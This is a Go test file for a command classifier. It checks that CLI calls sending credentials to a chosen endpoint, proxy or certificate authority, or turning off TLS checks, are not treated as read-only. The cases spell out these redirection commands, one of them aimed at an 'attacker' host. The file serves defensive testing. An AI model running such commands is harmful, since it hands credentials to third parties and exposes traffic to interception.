package engine_test

import "testing"

// TestCredentialsToAChosenServer: a credentialed client (aws, bq, gh,
// kubectl, helm, vault) sends its credentials with every request; a
// server, a proxy or a certificate authority the command chooses, or a
// switch that turns the check of the server off, lets another host
// receive them. None is a plain allow; the clients' own services are.
func TestCredentialsToAChosenServer(t *testing.T) {
	t.Parallel()
	checkReadOnly(t, []readOnlyCase{
		{"aws sts get-caller-identity --endpoint-url http://127.0.0.1:8000", false},
		{"aws s3 ls --endpoint-url=http://x", false},
		{"aws s3 ls --no-verify-ssl", false},
		{"aws s3 ls --ca-bundle ./ca.pem", false},
		{"AWS_CA_BUNDLE=./ca.pem HTTPS_PROXY=http://127.0.0.1:8080 aws s3 ls", false},
		{"HTTPS_PROXY=http://127.0.0.1:8080 aws sts get-caller-identity --no-verify-ssl", false},
		{"https_proxy=http://x aws s3 ls", false},
		{"Https_Proxy=http://x aws s3 ls", false},
		{"ALL_PROXY=socks5://x gh pr list", false},
		{"env HTTPS_PROXY=http://x kubectl get pods", false},
		{"AWS_ENDPOINT_URL=http://x aws s3 ls", false},
		{"AWS_ENDPOINT_URL_STS=http://x aws sts get-caller-identity", false},
		{"SSL_CERT_FILE=./ca.pem gh pr list", false},
		{"REQUESTS_CA_BUNDLE=./ca.pem az account show", false},
		{"CURL_CA_BUNDLE=./ca.pem gcloud projects list", false},
		{"SSL_CERT_DIR=./certs kubectl get pods", false},
		{"SSLKEYLOGFILE=keys.log gh pr list", false},
		{"GOPROXY=http://x go list -m all", false},
		{"bq --api=http://attacker ls", false},
		{"bq --disable_ssl_validation ls", false},
		{"kubectl get pods --insecure-skip-tls-verify", false},
		{"kubectl get pods --certificate-authority=./ca.pem", false},
		{"helm list --kube-insecure-skip-tls-verify", false},
		{"vault status -tls-skip-verify", false},
		{"vault status -ca-cert=./ca.pem", false},
		{"export HTTPS_PROXY=http://x; aws s3 ls", false},
		// The clients' own services, and settings that send nothing
		// elsewhere.
		{"aws s3 ls", true},
		{"aws s3 ls --endpoint-url http://localhost:9000 --no-sign-request", true},
		{"aws s3 ls --region us-east-1 --profile dev", true},
		{"NO_PROXY=localhost aws s3 ls", true},
		{"no_proxy=localhost gh pr list", true},
		{"gh pr list", true},
		{"kubectl get pods", true},
		{"bq ls", true},
		{"vault status", true},
	})
}
